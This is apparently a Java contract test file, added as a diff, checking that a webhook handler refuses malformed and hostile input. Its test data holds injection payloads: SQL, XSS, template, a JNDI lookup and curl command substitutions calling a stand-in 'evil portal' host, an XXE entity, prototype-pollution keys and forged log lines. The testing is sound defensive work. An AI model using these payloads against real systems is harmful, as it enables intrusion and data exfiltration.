@@ -1,0 +1,430 @@
+// SPDX-License-Identifier: Apache-2.0
+package dev.openlines.contract;
+
+import static dev.openlines.contract.ContractCase.numbered;
+import static dev.openlines.contract.Level.MUST;
+import static dev.openlines.contract.Level.SHOULD;
+
+import java.math.BigInteger;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+
+/** Malformed input: 201 to 229. */
+final class GroupC {
+
+    private static final String TOKEN = "auth[application_token]";
+    private static final String CHAT = "data[DATA][connector][chat_id]";
+    private static final String NAME = "data[DATA][line][name]";
+
+    private GroupC() {}
+
+    static List<ContractCase> cases() {
+        return List.of(
+                numbered(
+                                201,
+                                MUST,
+                                "HE",
+                                "an empty body with length 0, and with no length at all",
+                                "refuse with 4xx",
+                                "practice")
+                        .runs(run -> {
+                            Request empty = Request.post(run.run().wire().target(), new byte[0]);
+                            run.refused(run.send(empty), "an empty body");
+                            Request none = Request.post(run.run().wire().target(), new byte[0])
+                                    .header("Content-Length", null);
+                            run.refused(run.send(none), "a body without a length");
+                            run.alive();
+                        }),
+                numbered(
+                                202,
+                                MUST,
+                                "H",
+                                "random bytes, four kilobytes of ampersands, a single equals sign",
+                                "refuse with 4xx",
+                                "practice")
+                        .runs(run -> {
+                            run.refused(run.post(run.mint().bytes(512)), "random bytes");
+                            run.refused(
+                                    run.post("&".repeat(4096).getBytes(StandardCharsets.US_ASCII)), "ampersands only");
+                            run.refused(run.post(CaseRun.latin("=")), "a single equals sign");
+                            run.aliveWithoutEvidence();
+                        }),
+                numbered(
+                                203,
+                                MUST,
+                                "HE",
+                                "broken escapes (%, %4, %GG, %C3%28) inside token, key and value",
+                                "refuse with 4xx in token and key, tolerate them in a value, never break down",
+                                "PHP keeps a broken escape as it is")
+                        .runs(GroupC::brokenEscapes),
+                numbered(
+                                204,
+                                MUST,
+                                "HE",
+                                "keys with unbalanced brackets, without a name, with a list among them, a value with"
+                                        + " children",
+                                "not break down; have an effect only for the right chat",
+                                "PHP's rules for keys")
+                        .runs(GroupC::brokenKeys),
+                numbered(
+                                205,
+                                MUST,
+                                "HE",
+                                "no event, an empty one, a list, ten kilobytes of it, and one with CR LF",
+                                "refuse with 4xx or ignore with 2xx, without effect",
+                                "practice")
+                        .runs(run -> {
+                            List<EventBody> bodies = List.of(
+                                    run.event().without("event"),
+                                    run.event().set("event", ""),
+                                    run.event().without("event").first("event[0]", "ONSESSIONFINISH"),
+                                    run.event().set("event", "ONSESSIONFINISH".repeat(700)),
+                                    run.event().set("event", "ONSESSION\r\nFINISH"));
+                            for (EventBody body : bodies) {
+                                ignoredOrRefused(run, run.post(body), "an event without a proper name");
+                                run.noEffect(body, "an event without a proper name");
+                            }
+                            run.alive();
+                        }),
+                numbered(
+                                206,
+                                MUST,
+                                "HE",
+                                "an authentic event whose data is missing, a plain value, or empty",
+                                "answer 2xx or 4xx and not break down",
+                                "module source: data may be null")
+                        .runs(run -> {
+                            List<EventBody> bodies = List.of(
+                                    run.event().without("data"),
+                                    run.event()
+                                            .without("data")
+                                            .add("data", "107")
+                                            .atEnd("ts")
+                                            .atEnd("auth"),
+                                    run.event()
+                                            .without("data")
+                                            .add("data", "")
+                                            .atEnd("ts")
+                                            .atEnd("auth"));
+                            for (EventBody body : bodies) {
+                                ignoredOrRefused(run, run.post(body), "an event without its data");
+                                run.noEffect(body, "an event without its data");
+                            }
+                            run.alive();
+                        }),
+                numbered(
+                                207,
+                                MUST,
+                                "HE",
+                                "an authentic event without chat id, and with ids that are no number",
+                                "answer 2xx or 4xx, and never act on another chat",
+                                "practice: lenient number parsing")
+                        .runs(GroupC::noChat),
+                numbered(
+                                208,
+                                SHOULD,
+                                "HE",
+                                "two different chat ids in one event",
+                                "not break down, and pick one by rule",
+                                "documentation and source name the chat twice")
+                        .runs(run -> {
+                            EventBody event = run.event();
+                            String other = Long.toString(run.mint().chat());
+                            Reply reply = run.post(event.set("data[DATA][chat][chat_id]", other));
+                            run.stands(reply, "two chat ids in one event");
+                            run.expect(new Expectation(event.chatId(), null, 0, 1, "one of two chat ids"));
+                            run.expect(new Expectation(other, null, 0, 1, "the other of two chat ids"));
+                            run.alive();
+                        }),
+                numbered(
+                                209,
+                                MUST,
+                                "HE",
+                                "ts missing, a word, negative, 10^18, a fraction",
+                                "acknowledge each and have one effect: the time of receipt serves",
+                                "module source: ts is a hint")
+                        .runs(run -> {
+                            run.good(run.event().without("ts"), "an event without ts");
+                            for (String ts : List.of("yesterday", "-5", "1000000000000000000", "1795390000.5")) {
+                                run.good(run.event().set("ts", ts), "an event with ts '" + ts + "'");
+                            }
+                            run.alive();
+                        }),
+                numbered(
+                                210,
+                                MUST,
+                                "L",
+                                "a line name with CR LF and a made-up log line, terminal escapes, NUL",
+                                "keep one record to an event in the log: no forged line",
+                                "practice: log injection")
+                        .runs(GroupC::logLine),
+                numbered(
+                                211,
+                                MUST,
+                                "ER",
+                                "a line name with SQL, HTML, template and lookup expressions",
+                                "store it as it is, look nothing up, not break down",
+                                "practice: injection")
+                        .runs(GroupC::injection),
+                numbered(
+                                212,
+                                MUST,
+                                "HR",
+                                "broken JSON under its type; XML with an external entity at the evil portal",
+                                "refuse with 4xx, and fetch nothing",
+                                "practice: parsers chosen by content type")
+                        .runs(GroupC::otherTypes),
+                numbered(
+                                213,
+                                MUST,
+                                "HL",
+                                "the same fields as multipart; multipart that ends in the middle, unclosed",
+                                "take the first with effect or refuse it with 415; refuse the broken one with 4xx;"
+                                        + " leave no temporary files",
+                                "practice")
+                        .runs(GroupC::multipart),
+                numbered(
+                                214,
+                                SHOULD,
+                                "HE",
+                                "a byte-order mark first, a UTF-16 body, charset=windows-1251",
+                                "not break down, and read escapes as UTF-8",
+                                "captures: no charset parameter")
+                        .runs(run -> {
+                            byte[] marked = EventBody.join(
+                                    new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf},
+                                    run.event().bytes());
+                            run.stands(run.post(marked), "a byte-order mark");
+                            byte[] wide =
+                                    run.event().text(EventBody.Style.PLATFORM).getBytes(StandardCharsets.UTF_16LE);
+                            run.stands(run.post(wide), "a UTF-16 body");
+                            EventBody event = run.event().set(NAME, "Линия");
+                            Reply reply = run.send(
+                                    run.request(event).header("Content-Type", Request.FORM + "; charset=windows-1251"));
+                            run.takenOrRefused(reply, event, "charset=windows-1251");
+                            if (reply.is2xx()) {
+                                run.expect(new Expectation(event.chatId(), null, 1, 1, "a name in UTF-8")
+                                        .namedIfSeen("Линия"));
+                            }
+                            run.alive();
+                        }),
+                numbered(
+                                215,
+                                MUST,
+                                "HE",
+                                "the right token under auth.application_token and auth application_token, a wrong one"
+                                        + " under the real key",
+                                "deny it",
+                                "PHP turns dots and spaces of a name into underscores")
+                        .runs(run -> {
+                            String right = run.identity().proof().reveal();
+                            EventBody event = run.event()
+                                    .set(TOKEN, run.forged())
+                                    .add("auth.application_token", right)
+                                    .add("auth application_token", right)
+                                    .add("auth_application_token", right);
+                            run.denied(run.post(event), event, "the token under look-alike keys");
+                            run.alive();
+                        }),
+                numbered(
+                        216,
+                        SHOULD,
+                        "HRL",
+                        "malformed and unauthenticated at once",
+                        "answer without touching storage or portal",
+                        "practice: cheap refusals"),
+                numbered(
+                                217,
+                                MUST,
+                                "HE",
+                                "keys such as __proto__, constructor, class.module and toString",
+                                "ignore them: nothing behaves otherwise, then or later",
+                                "practice: prototype pollution, bean injection")
+                        .runs(run -> {
+                            EventBody bad = run.event()
+                                    .set(TOKEN, run.forged())
+                                    .add("__proto__[application_token]", "1")
+                                    .add("__proto__[verified]", "1")
+                                    .add("auth[__proto__][application_token]", "1")
+                                    .add("constructor[prototype][verified]", "1")
+                                    .add("class.module.classLoader.x", "1")
+                                    .add("toString", "1")
+                                    .add("auth[toString]", "1");
+                            run.refused(run.post(bad), "a wrong token beside prototype keys");
+                            run.noEffect(bad, "a wrong token beside prototype keys");
+                            EventBody good = run.event()
+                                    .add("__proto__[polluted]", "1")
+                                    .add("data[__proto__][polluted]", "1")
+                                    .add("constructor[x]", "1")
+                                    .add("hasOwnProperty", "1");
+                            run.good(good, "an event with prototype keys");
+                            run.alive();
+                        }));
+    }
+
+    private static void ignoredOrRefused(CaseRun run, Reply reply, String what) {
+        if (!reply.is2xx() && !reply.is4xx()) {
+            run.fail("status 2xx or 4xx for " + what, reply);
+        }
+    }
+
+    private static void brokenEscapes(CaseRun run) {
+        String right = run.identity().proof().reveal();
+        for (String broken : List.of("%", "%4", "%GG", "%C3%28")) {
+            EventBody token = run.event().setVerbatim(TOKEN, right + broken);
+            run.refused(run.post(token), "a broken escape in the token");
+            run.noEffect(token, "a broken escape in the token");
+            EventBody key = run.event().without(TOKEN).verbatim("auth%5Bapplication" + broken + "_token%5D=" + right);
+            run.refused(run.post(key), "a broken escape in the token's key");
+            run.noEffect(key, "a broken escape in the token's key");
+            EventBody value = run.event().setVerbatim(NAME, "Line+" + broken);
+            run.good(value, "a broken escape in the line's name");
+        }
+        run.alive();
+    }
+
+    private static void brokenKeys(CaseRun run) {
+        List<String> pieces = List.of(
+                "data%5BDATA=1",
+                "data%5DDATA%5B=1", "%5Bx%5D=1", "data%5B%5D%5B%5D=1", "data[DATA=1", "[=1", "]=1", "data[[DATA]]=1");
+        for (String piece : pieces) {
+            EventBody event = run.event().verbatim(piece);
+            Reply reply = run.post(event);
+            run.stands(reply, "a key with odd brackets");
+            run.expect(new Expectation(event.chatId(), run.identity().memberId(), 0, 1, "a key with odd brackets"));
+        }
+        EventBody scalar = run.event().add("data[DATA][connector]", "x");
+        run.stands(run.post(scalar), "a value after its own children");
+        run.expect(new Expectation(scalar.chatId(), run.identity().memberId(), 0, 1, "a value after its own children"));
+        EventBody before = run.event().first("data[DATA][connector]", "x");
+        run.stands(run.post(before), "a value before its own children");
+        run.expect(
+                new Expectation(before.chatId(), run.identity().memberId(), 0, 1, "a value before its own children"));
+        run.alive();
+    }
+
+    private static void noChat(CaseRun run) {
+        EventBody none = run.event().without(CHAT).without("data[DATA][chat]");
+        ignoredOrRefused(run, run.post(none), "an event without a chat id");
+        run.noEffect(none, "an event without a chat id");
+        run.noEffect("0", "an event without a chat id");
+        long own = run.mint().chat();
+        otherwise(run, "abc", List.of("0"));
+        otherwise(run, "-" + own, List.of(Long.toString(own), "0"));
+        otherwise(run, own + "e3", List.of(Long.toString(own), own + "000"));
+        long hex = run.mint().chat();
+        otherwise(run, "0x" + Long.toHexString(hex), List.of(Long.toString(hex), "0"));
+        // Trimmed, it would still be the same chat.
+        otherwise(run, " " + run.mint().chat() + " ", List.of());
+        otherwise(run, Long.toString(run.mint().chat()).replace('0', '\u0660').replace('1', '\u0661'), List.of());
+        String long400 = "7".repeat(400);
+        otherwise(
+                run,
+                long400,
+                List.of(
+                        Long.toString(Long.MAX_VALUE),
+                        Integer.toString(Integer.MAX_VALUE),
+                        Long.toString(new BigInteger(long400).longValue()),
+                        Integer.toString(new BigInteger(long400).intValue()),
+                        "Infinity",
+                        "INF"));
+        run.alive();
+    }
+
+    private static void otherwise(CaseRun run, String id, List<String> others) {
+        EventBody event = run.event(run.identity(), id);
+        ignoredOrRefused(run, run.post(event), "a chat id that is no number");
+        others.forEach(other -> run.noEffect(other, "an event whose chat id is no number"));
+    }
+
+    private static void logLine(CaseRun run) {
+        String mark = "forged-" + run.mint().hex(12);
+        String name = "Line\r\n2026-01-01 00:00:00 INFO " + mark + " all is well\n\u001b[31m" + mark + "\0end";
+        Reply reply = run.post(run.event().set(NAME, name));
+        run.stands(reply, "a line name with line breaks");
+        run.aliveWithoutEvidence();
+        if (run.run().log() == null) {
+            run.notObserved("the handler's log (L): --handler-cmd or --log lets the suite see it");
+        }
+        run.atEnd(() -> {
+            String log = run.run().log();
+            if (log != null && log.lines().anyMatch(line -> line.startsWith("2026-01-01 00:00:00 INFO " + mark))) {
+                run.fail("no line in the log that the event's sender wrote", "one that begins as a record");
+            }
+            if (log != null && log.contains("\u001b[31m" + mark)) {
+                run.fail("no terminal escape of the event's sender in the log", "one");
+            }
+        });
+    }
+
+    private static void injection(CaseRun run) {
+        String evil = run.run().evil().uri().getAuthority();
+        String mark = run.mint().hex(8);
+        List<String> names = List.of(
+                "'; DROP TABLE events; --" + mark,
+                "\" OR \"1\"=\"1",
+                "<script>alert('" + mark + "')</script>",
+                "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
+                "${jndi:ldap://" + evil + "/" + mark + "}",
+                "$(curl http://" + evil + "/" + mark + ")`curl http://" + evil + "/" + mark + "`");
+        for (String name : names) {
+            EventBody event = run.event().set(NAME, name);
+            run.stands(run.post(event), "a line name with an expression in it");
+            run.expect(new Expectation(event.chatId(), run.identity().memberId(), 1, 1, "a name with an expression")
+                    .named(name));
+        }
+        run.alive();
+        run.atEnd(() -> {
+            if (run.run().evil().seen().stream()
+                    .anyMatch(seen -> seen.text().contains(mark) || seen.head().isEmpty())) {
+                run.fail("no lookup of an address in a line's name", "a connection to the evil portal");
+            }
+        });
+    }
+
+    private static void otherTypes(CaseRun run) {
+        byte[] broken = CaseRun.latin("{\"event\":\"ONSESSIONFINISH\",\"auth\":{");
+        run.refused(
+                run.send(Request.post(run.run().wire().target(), broken).header("Content-Type", "application/json")),
+                "broken JSON");
+        String mark = run.mint().hex(12);
+        String xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE e [<!ENTITY x SYSTEM \""
+                + run.run().evil().uri() + mark + "\">]>\n<event>&x;</event>";
+        run.refused(
+                run.send(Request.post(run.run().wire().target(), CaseRun.latin(xml))
+                        .header("Content-Type", "application/xml")),
+                "XML");
+        run.aliveWithoutEvidence();
+        run.atEnd(() -> {
+            if (run.run().evil().seen().stream().anyMatch(seen -> seen.text().contains(mark))) {
+                run.fail("no request for an XML entity", "one to the evil portal");
+            }
+        });
+    }
+
+    private static void multipart(CaseRun run) {
+        EventBody event = run.event();
+        String boundary = "----openlines" + run.mint().hex(16);
+        StringBuilder out = new StringBuilder();
+        for (String[] field : event.fields()) {
+            out.append("--")
+                    .append(boundary)
+                    .append("\r\nContent-Disposition: form-data; name=\"")
+                    .append(field[0]);
+            out.append("\"\r\n\r\n").append(field[1]).append("\r\n");
+        }
+        String type = "multipart/form-data; boundary=" + boundary;
+        byte[] whole = (out + "--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8);
+        Reply reply = run.send(Request.post(run.run().wire().target(), whole).header("Content-Type", type));
+        run.takenOrRefused(reply, event, "a multipart form");
+        // Cut inside its last value, the token: who reads it leniently must not believe it either.
+        EventBody second = run.event();
+        String body = out.toString().replace(event.chatId(), second.chatId());
+        byte[] cut = body.substring(0, body.length() - 12).getBytes(StandardCharsets.UTF_8);
+        Reply broken = run.send(Request.post(run.run().wire().target(), cut).header("Content-Type", type));
+        run.refusedOrClosed(broken, "a multipart form without its end");
+        run.noEffect(second, "a multipart form without its end");
+        run.alive();
+        run.temporaryFiles(boundary);
+    }
+}
